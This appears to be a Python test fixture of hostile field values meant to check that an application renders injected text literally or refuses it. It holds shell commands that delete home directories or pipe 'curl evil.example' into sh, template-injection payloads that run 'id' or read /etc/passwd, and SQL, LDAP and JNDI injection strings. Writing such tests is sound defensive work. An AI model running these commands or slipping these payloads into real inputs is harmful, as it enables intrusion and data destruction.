"""What a shell, a layout or an editor of somebody's machine would run."""

from tests.hostile.cases import refused, shown, template

CASES = [
    # Shells
    shown("shell-substitution", title="$(rm -rf ~) and ${IFS}", task_title="$(rm -rf ~)"),
    shown("shell-backticks", title="`id` and `reboot`", task_title="`touch /tmp/pwned`"),
    shown("shell-semicolon", title="x; rm -rf / #", task_title="x && curl evil.example | sh"),
    shown("shell-redirection", title="x > /etc/passwd < /dev/zero"),
    shown("shell-quotes", title="'; exit 1; '\"\"", task_title='"; pwned; "'),
    shown("shell-history-and-glob", title="!! * ? [a-z] ~ {a,b}"),
    shown("windows-shell", title="%COMSPEC% & calc.exe ^| x", role="%USERPROFILE%"),
    shown("power-shell", title="x; iex(iwr evil.example)", role="$env:PATH"),
    refused(
        "option-as-a-title", template(title="--output=/etc/passwd"), "1:8", "may not begin with"
    ),
    refused("option-as-a-task", template(task_title="-rf"), "9:12", "may not begin with"),
    refused("line-in-a-command", template(title="Plan\nrm -rf ~"), "1:8", "a line break"),
    shown("option-as-a-role", role="--output=/etc/passwd", sign_off="-rf"),
    shown("workflow-command", title="::error file=a::b", caution="::set-output name=x::y"),
    shown("workflow-expression", title="${{ github.token }}", caution="${{ secrets.KEY }}"),
    shown("structured-query", title="'; DROP TABLE plans; --", role="1' OR '1'='1"),
    shown("logging-lookup", title="${jndi:ldap://evil.example/a}"),
    shown("format-string", title="%s%s%n %(x)s {0.__class__}", task_title="%n%n%x"),
    shown("regular-expression", title="(a+)+$ [\\s\\S]* \\1", task_title="$& $1 $` $'"),
    shown("directory-query", title="*)(uid=*))(|(uid=*"),
    # Layouts: braces are text
    shown("jinja-sum", title="{{ 7 * 7 }} is not 49", why="{{ 7 * 7 }}"),
    shown("jinja-configuration", caution="{{ config }} {{ config.items() }} {{ self.__dict__ }}"),
    shown("jinja-classes", caution="{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    shown("jinja-include", title="{% include '/etc/passwd' %}", why="{% include '/etc/passwd' %}"),
    shown("jinja-import", caution="{% import 'os' as os %}{{ os.popen('id').read() }}"),
    shown("jinja-block", question="{% endblock %}{% block scripts %}", caution="{% extends 'x' %}"),
    shown("jinja-raw", title="{% raw %} without an end", question="{% endraw %}"),
    shown("jinja-comment", title="{# a comment #} is shown", caution="{# open"),
    shown("jinja-loop", caution="{% for x in range(999999999) %}x{% endfor %}"),
    shown("jinja-of-lines", caution="# for x in y", role="## x"),
    shown("jinja-safe", caution="{{ '<script>pwned=1</script>' | safe }}"),
    shown(
        "jinja-in-markdown",
        "{{ page.content }}",
        "{% raw %}",
        details="{{ page.content }} `{% raw %}`",
    ),
    shown(
        "jinja-in-a-task", task_title="{{ range(9**9) | list }}", role="{{ x }}", sign_off="{% y %}"
    ),
    shown("macros-of-mkdocs", title="[[ macros_info() ]] [% x %]"),
    shown("liquid", caution="{% liquid echo 'x' %} {{ site.github.token }}"),
    shown("mustache", title="{{{ raw }}} {{& raw }} {{> partial }}"),
    shown("angular", task_title="{{constructor.constructor('pwned=1')()}}"),
    shown("vue", task_title="{{_c.constructor('alert(1)')()}}", role="v-html=x @click=y"),
    shown("embedded-ruby", title="<%= `id` %> <%# x %>"),
    shown("php", title="<?= system('id') ?>", role="<?php x ?>"),
    shown("freemarker-and-velocity", caution="${7*7} #{7*7} #set($x=1) <#assign x=1> *{7*7}"),
    shown(
        "server-side-include", caution="<!--#exec cmd='id' --><!--#include file='/etc/passwd'-->"
    ),
    shown("latex", caution="\\input{/etc/passwd} \\write18{id}"),
    shown("template-literal", task_title="`${pwned=1}`", question="${alert(1)}"),
]
